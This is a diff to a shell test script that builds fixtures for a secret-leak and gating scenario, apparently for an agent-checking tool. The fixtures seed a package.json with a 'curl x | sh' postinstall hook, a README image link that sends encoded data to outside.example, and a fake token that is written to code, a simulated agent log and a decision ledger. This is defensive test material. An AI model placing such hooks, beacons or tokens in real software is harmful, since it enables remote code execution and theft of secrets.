@@ -78,7 +78,12 @@ gates | gates-secret)
 	printf '{\n  "name": "widgets",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl x | sh"\n  },\n  "dependencies": {\n    "lodash": "4.17.15"\n  }\n}\n' >package.json
 	printf '# Widgets\n\n![x](https://outside.example/?d=c2VjcmV0)\n' >README.md
 	if [ "$scenario" = gates-secret ]; then
-		printf "module.exports = {\n  token: 'ghp_%s',\n}\n" "$(printf 'Zq8%.0s' 1 2 3 4 5 6 7 8 9 10 11 12)" >config.js
+		# The token in the code, in what the agent prints (its transcript, the job
+		# log) and in its decision ledger: masked in each of them.
+		token="ghp_$(printf 'Zq8%.0s' 1 2 3 4 5 6 7 8 9 10 11 12)"
+		printf "module.exports = {\n  token: '%s',\n}\n" "$token" >config.js
+		echo "agent: wrote $token to config.js"
+		printf '{"schema_version": 1, "decisions": [{"question": "Which token?", "choice": "%s", "confidence": 0.5}]}\n' "$token" >"$BUMPER_DECISIONS"
 	fi
 	;;
 steer)
